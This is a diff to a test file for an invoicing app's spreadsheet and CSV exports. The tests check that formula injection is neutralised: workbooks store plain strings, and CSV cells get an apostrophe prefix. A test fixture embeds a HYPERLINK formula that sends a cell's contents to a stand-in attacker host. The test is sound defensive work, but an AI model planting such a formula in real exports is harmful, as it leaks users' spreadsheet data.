@@ -8,6 +8,7 @@ import { deliveries, invoices, organisations, reminderInvoices, reminderRecipien
 import type { Db } from '../../src/lib/server/db/types';
 import { reminderWorkbook } from '../../src/lib/server/exports/workbook';
 import { toCsv } from '../../src/lib/server/exports/csv';
+import { toXlsx } from '../../src/lib/server/exports/xlsx';
 import { dataSheet, historySheet, listHistory } from '../../src/lib/server/exports/tables';
 import { runPass } from '../../src/lib/server/delivery/scheduler';
 import { settleReminders } from '../../src/lib/server/delivery/settle';
@@ -46,7 +47,7 @@ beforeEach(async () => {
 	org = await makeOrganisation(db);
 	const other = await makeOrganisation(db, 'Autre');
 	const evil = await makeDebtor(db, org.id, PAYLOAD);
-	const contact = await makeContact(db, org.id, evil.id, { email: 'evil@example.fr', firstName: '+33 Anne', lastName: '@Dupont' });
+	const contact = await makeContact(db, org.id, evil.id, { email: 'evil@example.fr', firstName: '+33 Anne', lastName: '@Dupont', mobilePhone: '+33612092458' });
 	const a = await makeInvoice(db, org.id, evil.id, { number: 'F-1', amountCents: 10000, paidCents: 2500, reminderLevel: 1 });
 	const b = await makeInvoice(db, org.id, evil.id, { number: 'F-2', amountCents: 5000, paidCents: 5000, reminderLevel: 1 });
 	await sentReminder(evil.id, contact.id, [a.id, b.id], 'bounced');
@@ -75,17 +76,27 @@ describe('the reminder workbook', () => {
 		expect(values('No_destinataire').slice(1).map((r) => r[1])).toEqual(['Sans Destinataire']);
 	});
 
-	it('writes a formula payload as text, never as a formula', async () => {
+	it('writes plain values in a workbook, never a formula, and keeps the apostrophe guard for CSV only', async () => {
 		const workbook = await sheetRows(await reminderWorkbook(db, org.id));
 		const sheet = workbook.getWorksheet('Facture_du')!;
 		const row = [2, 3].map((n) => sheet.getRow(n)).find((r) => r.getCell(3).value === 'F-1')!;
 		const cell = row.getCell(2);
 		expect(cell.type).toBe(ExcelJS.ValueType.String);
 		expect(cell.formula).toBeUndefined();
-		expect(cell.value).toBe(`'${PAYLOAD}`);
+		expect(cell.value).toBe(PAYLOAD);
+
+		const contactsBook = await sheetRows(await toXlsx([await dataSheet(db, org.id, 'contacts')]));
+		const contactRows = contactsBook.worksheets[0].getSheetValues().slice(2).map((r) => (r as ExcelJS.CellValue[]).slice(1));
+		const evil = contactRows.find((r) => r[5] === 'evil@example.fr')!;
+		expect(evil.slice(3, 7)).toEqual(['+33 Anne', '@Dupont', 'evil@example.fr', '+33612092458']);
+		const debtorsBook = await sheetRows(await toXlsx([await dataSheet(db, org.id, 'debtors')]));
+		expect(debtorsBook.worksheets[0].getSheetValues().slice(2).map((r) => (r as ExcelJS.CellValue[])[2])).toContain(PAYLOAD);
+
 		const csv = toCsv(await dataSheet(db, org.id, 'debtors')).toString('utf8');
 		expect(csv).toContain(`;"'=HYPERLINK(""http://evil.example/?""&A1,""Cliquez"")";`);
 		expect(csv).not.toMatch(/[;\n]=/);
+		const contactsCsv = toCsv(await dataSheet(db, org.id, 'contacts')).toString('utf8');
+		expect(contactsCsv).toContain(";'+33 Anne;'@Dupont;evil@example.fr;'+33612092458;");
 	});
 });
 
